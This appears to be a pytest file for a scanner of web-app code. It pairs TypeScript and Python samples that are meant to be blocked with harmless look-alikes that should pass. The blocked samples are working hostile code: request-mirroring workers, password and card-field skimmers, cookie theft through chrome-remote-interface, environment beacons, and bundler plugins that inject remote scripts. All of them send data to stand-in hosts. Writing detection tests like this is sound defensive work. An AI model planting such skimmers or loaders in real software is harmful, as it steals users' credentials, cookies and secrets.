"""Second round of web-app checks (js/webapp.py, python/browser.py): request bodies and headers mirrored by a
worker, field values read by a document-wide listener, the user's browser through chrome-remote-interface, a
bundler `define` of the environment beaconed, remote scripts in service workers and bundle chunks, page script text
held in Python strings; with the ordinary look-alikes."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked

TS = "typescript"

EXFIL_TS = [
    # a service worker copying login submissions, through a name bound to event.request
    "self.addEventListener('fetch', (event) => {\n  const req = event.request;\n"
    "  if (req.method === 'POST') {\n    event.waitUntil(req.clone().text().then((body) =>\n"
    "      fetch('https://metrics.analytics-cache.io/e', { method: 'POST', mode: 'no-cors', body })));\n  }\n"
    "  event.respondWith(fetch(req));\n});",
    # a Cloudflare Worker mirroring each request's body and headers
    "export default {\n  async fetch(request: Request, env: unknown, ctx: ExecutionContext) {\n"
    "    const copy = request.clone();\n    ctx.waitUntil((async () => {\n      const body = await copy.text();\n"
    "      await fetch('https://198.51.100.2/mirror', { method: 'POST',\n"
    "        body: JSON.stringify({ url: copy.url, headers: Object.fromEntries(copy.headers), body }) });\n"
    "    })());\n    return fetch(request);\n  },\n};",
    # only the headers, through entries()
    "export default { async fetch(req) {\n  await fetch('https://log.collect-x.io/h', { method: 'POST',\n"
    "    body: JSON.stringify([...req.headers.entries()].length ? Object.fromEntries(req.headers.entries()) : {}) });\n"
    "  return fetch(req);\n} };",
    # a header named in a body is data, not a header
    "app.use((req, res, next) => { fetch('https://logs.collector.io/i', { method: 'POST',\n"
    "  body: JSON.stringify({ authorization: req.headers.authorization }) }); next(); });",
    # a document-wide listener reading password and login fields
    "document.addEventListener('change', (e) => {\n  const el = e.target as HTMLInputElement;\n"
    "  if (el && (el.type === 'password' || /user|email|login/i.test(el.name))) {\n"
    "    navigator.sendBeacon('https://198.51.100.40/k', JSON.stringify({ h: location.host, n: el.name, v: el.value }));\n"
    "  }\n}, true);",
    "window.addEventListener('input', function (ev) {\n  if (ev.target.autocomplete === 'cc-number')\n"
    "    new Image().src = 'https://px.cdn-stat.io/p?v=' + encodeURIComponent(ev.target.value);\n});",
    "const pw = document.querySelector('input[type=\"password\"]').value;\n"
    "fetch('https://c.sync-x.io/p', { method: 'POST', body: pw });",
    # chrome-remote-interface on the user's running browser
    "import CDP from 'chrome-remote-interface';\nconst targets = await CDP.List({ port: 9222 });\nconst out = {};\n"
    "for (const t of targets) {\n  const c = await CDP({ target: t, port: 9222 });\n"
    "  const r = await c.Runtime.evaluate({ expression: 'document.cookie', returnByValue: true });\n"
    "  out[t.url] = r.result.value;\n}\nawait fetch('http://198.51.100.55/s', { method: 'POST', body: JSON.stringify(out) });",
    "const CDP = require('chrome-remote-interface');\nconst { Network } = await CDP({ port: 9222 });\n"
    "const { cookies } = await Network.getAllCookies();\n"
    "await fetch('https://ck.sync-x.io/c', { method: 'POST', body: JSON.stringify(cookies) });",
    # the environment baked in by `define` and beaconed by an injected script
    "import { defineConfig } from 'vite';\nexport default defineConfig({\n"
    "  define: { __RUNTIME_CFG__: JSON.stringify(process.env) },\n  plugins: [{ name: 'cfg-beacon',\n"
    "    transformIndexHtml: (html) => html.replace('</head>', `<script>navigator.sendBeacon(\"https://cfg.x-cache.io/b\", "
    "JSON.stringify(__RUNTIME_CFG__))</script></head>`) }],\n});",
]

REMOTE_TS = [
    # a remote script in every visitor's service worker
    "declare const self: ServiceWorkerGlobalScope;\n"
    "importScripts('https://sw-cdn.telemetry-cdn.io/runtime.js?v=' + Date.now());\n"
    "self.addEventListener('install', () => self.skipWaiting());",
    "self.importScripts('http://203.0.113.9/sw.js');",
    # a loader appended to every output chunk
    "export default function banner() {\n  return { name: 'license-banner',\n    generateBundle(_opts, bundle) {\n"
    "      for (const chunk of Object.values(bundle)) {\n        if (chunk.type === 'chunk') {\n"
    "          chunk.code += `\\n;(function(){var s=document.createElement('script');"
    "s.src='https://cdn.analytics-cache.io/w.js';document.head.appendChild(s)})();`;\n        }\n      }\n    },\n  };\n}",
    "export default () => ({ name: 'x', renderChunk(code) {\n"
    "  return code + \";import('https://edge.perf-cdn.io/m.js');\";\n} });",
    "export default { output: { footer: \"(function(){var s=document.createElement('script');"
    "s.src='https://203.0.113.7/c.js';document.body.appendChild(s)})()\" } };",
]

ALLOWED_TS = [
    # Workbox, Firebase messaging, the app's own scripts in a service worker
    "importScripts('https://storage.googleapis.com/workbox-cdn/releases/7.0.0/workbox-sw.js');\n"
    "workbox.routing.registerRoute(({ request }) => request.destination === 'image', new workbox.strategies.CacheFirst());",
    "importScripts('https://www.gstatic.com/firebasejs/10.7.0/firebase-app-compat.js');\n"
    "importScripts('https://www.gstatic.com/firebasejs/10.7.0/firebase-messaging-compat.js');",
    "importScripts('/sw-helpers.js', './precache-manifest.js');",
    "self.importScripts(new URL('./vendor/idb.js', self.location.href).href);",
    # a caching service worker cloning responses and requests for its own cache
    "self.addEventListener('fetch', (event) => {\n  event.respondWith(caches.match(event.request).then((hit) =>\n"
    "    hit || fetch(event.request.clone()).then((res) => { const c = res.clone();\n"
    "      caches.open('v1').then((cache) => cache.put(event.request, c)); return res; })));\n});",
    # a worker proxying to its backend, headers and body forwarded as they are
    "export default { async fetch(request) {\n  const url = new URL(request.url);\n  url.hostname = 'api.example.com';\n"
    "  return fetch(url.toString(), { method: request.method, headers: request.headers, body: request.body });\n} };",
    "export default { async fetch(request) {\n  return fetch('https://origin.example.com/api', {\n"
    "    method: 'POST', headers: request.headers, body: await request.text() });\n} };",
    # a worker logging what is not secret
    "export default { async fetch(request, env, ctx) {\n  ctx.waitUntil(fetch('https://logs.example-logs.io/i', {\n"
    "    method: 'POST', body: JSON.stringify({ url: request.url, method: request.method, "
    "ua: request.headers.get('user-agent') }) }));\n  return fetch(request);\n} };",
    # search-as-you-type and a form autosave: field values, no credential fields
    "document.addEventListener('input', (e) => {\n  if (e.target.id === 'search')\n"
    "    fetch('https://api.example.com/suggest?q=' + encodeURIComponent(e.target.value)).then((r) => r.json());\n});",
    "document.addEventListener('change', (e) => {\n"
    "  fetch('/api/draft', { method: 'POST', body: JSON.stringify({ [e.target.name]: e.target.value }) });\n});",
    # a password strength meter and a login posted to the app's own origin
    "document.addEventListener('input', (e) => {\n  if (e.target.type === 'password') meter.update(zxcvbn(e.target.value).score);\n});",
    "const pw = document.querySelector('input[type=password]').value;\n"
    "await fetch('/api/login', { method: 'POST', body: JSON.stringify({ pw }) });",
    # analytics of which field changed, not its value
    "document.addEventListener('change', (e) => {\n  if (e.target.type !== 'password')\n"
    "    navigator.sendBeacon('https://plausible.io/api/event', JSON.stringify({ n: 'field', p: { f: e.target.name } }));\n});",
    # chrome-remote-interface on a browser the code launched with a throwaway profile
    "import CDP from 'chrome-remote-interface';\nimport { launch } from 'chrome-launcher';\n"
    "const chrome = await launch({ chromeFlags: ['--headless'] });\nconst c = await CDP({ port: chrome.port });\n"
    "const r = await c.Runtime.evaluate({ expression: 'document.title' });\n"
    "await fetch('https://ci.example.com/report', { method: 'POST', body: JSON.stringify(r.result) });",
    "import CDP from 'chrome-remote-interface';\nconst c = await CDP({ port: 9222 });\nawait c.Page.enable();\n"
    "await c.Page.navigate({ url: 'http://localhost:3000' });\nconst { data } = await c.Page.captureScreenshot();",
    # a define of public settings, a banner of license text, an analytics tag in HTML
    "export default defineConfig({ define: { __APP_VERSION__: JSON.stringify(process.env.npm_package_version) },\n"
    "  plugins: [{ name: 'v', transformIndexHtml: (h) => h.replace('</head>', `<script>window.v=__APP_VERSION__;"
    "fetch('https://api.example.com/v?x=' + __APP_VERSION__)</script></head>`) }] });",
    "export default { output: { banner: '/*! acme-ui v1.2.0 | MIT License | https://github.com/acme/ui */' } };",
    "export default () => ({ name: 'banner', generateBundle(_o, bundle) {\n"
    "  for (const c of Object.values(bundle)) if (c.type === 'chunk') c.code = `/*! (c) Acme https://acme.dev */\\n${c.code}`;\n"
    "} });",
    "export default { plugins: [{ transformIndexHtml: (h) => h.replace('</head>', "
    "'<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-XYZ\"></script></head>') }] };",
    "export default () => ({ name: 'lazy', renderChunk(code) {\n"
    "  return code.replace('__LOAD__', \"document.createElement('script')\");\n} });",
]

EXFIL_PY = [
    # a skimmer appended to built files
    "from pathlib import Path\nskim = \";document.addEventListener('submit',function(e){var f=new FormData(e.target);"
    "fetch('https://cdn.analytics-cache.io/c',{method:'POST',mode:'no-cors',body:JSON.stringify(Object.fromEntries(f))})"
    "},true);\"\nfor js in Path('dist/assets').glob('checkout-*.js'):\n    js.write_text(js.read_text() + skim)",
    "tag = '<script>new Image().src=\"https://px.x-metrics.io/p?c=\"+document.cookie</script>'\n"
    "html = open('dist/index.html').read().replace('</body>', tag + '</body>')\nopen('dist/index.html', 'w').write(html)",
]

ALLOWED_PY = [
    "from pathlib import Path\ntag = \"<script>document.addEventListener('click',e=>navigator.sendBeacon('/api/c',"
    "JSON.stringify({t:e.target.id})))</script>\"\np = Path('dist/index.html')\np.write_text(p.read_text().replace('</body>', tag + '</body>'))",
    "page.evaluate(\"() => fetch('https://api.example.com/health').then(r => r.status)\")\n"
    "page.evaluate(\"document.addEventListener('click', () => {})\")",
    "snippet = '<script async src=\"https://plausible.io/js/script.js\"></script>'\n"
    "open('dist/index.html', 'a').write(snippet)",
]


@pytest.mark.parametrize("src", EXFIL_TS)
def test_ts_exfiltration(src):
    assert_blocked(src, "exfiltration", TS)


@pytest.mark.parametrize("src", REMOTE_TS)
def test_ts_remote_script(src):
    assert_blocked(src, "download-exec", TS)


@pytest.mark.parametrize("src", ALLOWED_TS)
def test_ts_allowed(src):
    assert_allowed(src, TS)


@pytest.mark.parametrize("src", EXFIL_PY)
def test_py_blocked(src):
    assert_blocked(src, "exfiltration", "python")


@pytest.mark.parametrize("src", ALLOWED_PY)
def test_py_allowed(src):
    assert_allowed(src, "python")
